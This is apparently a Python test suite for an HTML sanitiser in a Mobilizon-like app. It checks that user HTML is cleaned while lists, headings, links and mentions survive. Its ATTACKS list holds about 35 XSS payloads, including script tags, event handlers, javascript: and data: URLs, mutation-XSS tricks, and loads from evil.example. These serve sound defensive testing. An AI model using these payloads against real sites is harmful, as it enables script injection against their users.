"""Strangers' HTML made safe."""

import re
from html.parser import HTMLParser
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mobilizon_lite.lib.html import KEPT_TAGS, LONGEST, clean_html, text_to_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<b onmouseover=alert(1)>bold</b>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href='jav&#x09;ascript:alert(1)'>a</a>",
    "<a href=' &#14; javascript:alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='vbscript:x'>a</a>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<abbr title='&quot;><script>alert(1)</script>'>x</abbr>",
    "<a href='https://x.example/\"><script>alert(1)</script>'>x</a>",
    "<<script>alert(1)//<</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<a href='https://x.example' target=_blank id=main name=body ping=//evil.example download>x</a>",
    "<video src=x onerror=alert(1)><source src=//evil.example></video>",
    "<p dir='rtl\" onclick=x' lang='x\" y'>x</p>",
]


class Inspector(HTMLParser):
    """What a browser would find in the result."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def assert_safe(html: str) -> None:
    for tag, attributes in Inspector(html).tags:
        assert tag in KEPT_TAGS - {"h1", "h2", "s", "strike"}
        assert attributes.keys() <= {"href", "rel", "title", "class", "lang", "dir", "start"}
        assert re.match(r"(?i)https?://|https?:|mailto:", attributes.get("href") or "https:")
        assert attributes.get("class") in (None, "mention", "hashtag", "u-url", "h-card")
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer ugc nofollow"


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_nothing_dangerous(attack):
    cleaned = clean_html(f"before {attack} after")

    assert_safe(cleaned)
    assert "before" in cleaned


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_was_cleaned_stays_the_same_when_cleaned_again(attack):
    once = clean_html(attack)

    assert clean_html(once) == once


@given(
    st.lists(
        st.sampled_from(
            [
                *ATTACKS,
                "<p>",
                "</p>",
                "<b>",
                "</ul>",
                "<ul><li>",
                "<h1>",
                "</h1>",
                "<table><td>",
                "x",
                "\0",
                "<!--",
                '"',
                "'",
                "<a href='",
            ]
        )
    ).map("".join)
)
def test_no_mixture_of_attacks_is_dangerous(html):
    assert_safe(clean_html(html))


@given(st.text())
def test_no_text_is_dangerous(html):
    assert_safe(clean_html(html))


def test_what_people_need_is_kept():
    html = (
        '<h3>Programme</h3><p>With <b>bold</b>, <em>stress</em>, <code>code</code>, <abbr title="Fédération">F</abbr> and '
        '<a href="mailto:lou@lite.example" rel="noopener noreferrer ugc nofollow">mail</a>.<br>New line</p>'
        '<ol start="3"><li>three</li></ol><ul><li>one</li></ul><blockquote>quote</blockquote><pre>a\n  b</pre><hr>'
    )

    assert clean_html(html) == html


def test_a_mention_keeps_its_class_and_nothing_else():
    cleaned = clean_html(
        '<span class="h-card big"><a class="mention x" href="https://other.example/@remi">@remi</a></span>'
    )

    assert 'class="h-card"' in cleaned
    assert 'class="mention"' in cleaned


@pytest.mark.parametrize(
    "address",
    [
        "/about",
        "about",
        "//evil.example/x",
        "#top",
        "?a=b",
        "",
        "ftp://x.example",
        "https://x.example/" + "a" * 3000,
    ],
)
def test_a_link_that_leads_nowhere_of_its_own_keeps_its_words_only(address):
    assert clean_html(f'<p><a href="{address}">words</a></p>') == "<p>words</p>"


@pytest.mark.parametrize(
    ("written", "outline"),
    [
        ("1", "3"),
        ("2 4 1", "3 4 3"),
        ("4 2 3 3 2", "3 3 4 4 3"),
        ("1 2 3 4 5 6", "3 4 5 6 6 6"),
        ("6 5 4", "3 3 3"),
    ],
)
def test_headings_fit_below_the_page_and_skip_no_level(written, outline):
    html = "".join(f"<h{level}>x</h{level}>" for level in written.split())

    assert " ".join(re.findall(r"<h(\d)>", clean_html(html))) == outline


def test_headings_can_begin_at_another_level():
    assert clean_html("<h1>A</h1><h2>B</h2>", top_heading=2) == "<h2>A</h2><h3>B</h3>"


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<div>a</div><div>b <b>c</b></div>d", "a<br>b <b>c</b><br>d"),
        ("<div>a</div><div><br></div><div>b</div>", "a<br>b"),
        ("<div><p>a</p></div><div><p>b</p></div>", "<p>a</p><p>b</p>"),
        ("<ul><li><div>a</div></li></ul>", "<ul><li>a</li></ul>"),
        ("<dl><dt>When</dt><dd>Now</dd></dl>", "When<br>Now"),
    ],
)
def test_words_of_two_boxes_do_not_run_together(html, expected):
    assert clean_html(html) == expected


def test_a_table_keeps_its_rows_and_its_words_apart():
    assert (
        re.sub(r" +", " ", clean_html("<table><tr><td>18h<td>Soup<tr><td>20h<td>Ball</table>"))
        == "18h Soup <br>20h Ball"
    )


def test_empty_paragraphs_go():
    assert clean_html("<p></p><p>&nbsp;<br></p><p>x</p>") == "<p>x</p>"


def test_a_struck_text_is_a_deleted_one():
    assert clean_html("<s>18h</s> <strike>19h</strike>") == "<del>18h</del> <del>19h</del>"


def test_languages_and_directions_are_kept_when_they_are_some():
    assert clean_html('<p lang="ar" dir="rtl">x</p>') == '<p lang="ar" dir="rtl">x</p>'
    assert clean_html('<p lang="?" dir="up">x</p>') == "<p>x</p>"


@pytest.mark.parametrize(
    "tags",
    [
        "<blockquote>",
        "<ul><li>",
        "<b>",
        "<i><div>",
        "<a href='https://x.example'>",
        "<h1><b>",
        "<table><td>",
        "<svg>",
        "</p>",
    ],
)
@pytest.mark.parametrize("count", [4_000, 100_000])
def test_deep_nesting_is_flattened_quickly(tags, count):
    before = process_time()

    cleaned = clean_html(tags * count + "end")

    assert process_time() - before < 1.5
    assert depth(cleaned) <= 25


def depth(html: str) -> int:
    deepest = now = 0
    for slash, name in re.findall(r"<(/?)([a-z0-9]+)", html):
        now += 0 if name in ("br", "hr") else -1 if slash else 1
        deepest = max(deepest, now)
    assert now == 0
    return deepest


def test_a_text_without_end_is_cut():
    assert len(clean_html("a" * (LONGEST * 3))) == LONGEST


def test_plain_text_becomes_paragraphs():
    assert text_to_html("a <b>\r\nb\n\n  \nc & d\n") == "<p>a &lt;b&gt;<br>b</p>\n<p>c &amp; d</p>"
